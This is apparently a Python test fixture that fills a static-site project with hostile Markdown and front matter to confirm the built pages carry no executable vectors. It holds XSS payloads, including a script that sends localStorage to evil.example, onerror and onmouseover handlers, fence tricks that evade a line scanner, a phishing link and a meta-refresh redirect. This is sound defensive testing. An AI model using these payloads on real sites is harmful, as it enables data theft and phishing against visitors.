"""A copy of the project with every hostile input that `check` lets through:
each must build, and the built site must hold no executable vector
(tests/test_attacks.py reads the pages, tests/e2e/test_hostile.py loads them)."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import copy_project

MARK = "__pwned"
SCRIPT = f'<script>window.{MARK}=1;alert(1);fetch("https://evil.example/?"+JSON.stringify(localStorage))</script>'
IMG = f'<img src="x" onerror="window.{MARK}=1;alert(1)">'

# Markdown where a line-based scanner and Python-Markdown disagree on what is
# code: the scanner skips the lines after it, Markdown emits them raw.
PAGES = {
    "unclosed-fence": f"# T\n\n```\ncode\n\n{SCRIPT}\n",
    "unclosed-long-fence": f"# T\n\n````\ncode\n{SCRIPT}\n{IMG}\n",
    "tilde-in-indented-code": f"# T\n\n    ~~~\n    code\n\n{SCRIPT}\n\n~~~\n",
    "code-span-in-html-block": f"# T\n\n<div>`<span>`</div>\n\n<div>x `{SCRIPT}` y</div>\n",
    "nested-fences": f"# T\n\n````\n```\n````\n{SCRIPT}\n```\n",
    "handler-after-fence": f"# T\n\n```\nx\n\n{IMG}\n",
}
# Plain-text fields that are Markdown syntax: the print view must show them as text.
FICHE_TITLE = 'Titre {: style="position:fixed;inset:0;background:red" }'
FICHE_SUMMARY = "[Mettez à jour votre mot de passe](https://evil.example/connexion)"
# Front matter printed by the theme into attributes.
DESCRIPTION = '0;url=https://evil.example/" http-equiv="refresh'


def hostile_project(dest: Path) -> Path:
    root = copy_project(dest)
    for name, body in PAGES.items():
        (root / "content" / "guide" / f"attaque-{name}.md").write_text(body, encoding="utf-8")
    (root / "content" / "guide" / "attaque-description.md").write_text(
        f"---\ndescription: '{DESCRIPTION}'\ntitle: 'Titre \" onmouseover=\"window.{MARK}=1'\n---\n# Page\n",
        encoding="utf-8")
    fiche = root / "content" / "fiches" / "piles.md"
    text = fiche.read_text(encoding="utf-8")
    head, body = text.split("\n---\n", 1)
    lines = [ln for ln in head.split("\n") if not ln.startswith(("titre:", "resume:"))]
    lines += [f"titre: '{FICHE_TITLE}'", f"resume: '{FICHE_SUMMARY}'"]
    fiche.write_text("\n".join(lines) + "\n---\n" + body, encoding="utf-8")
    return root
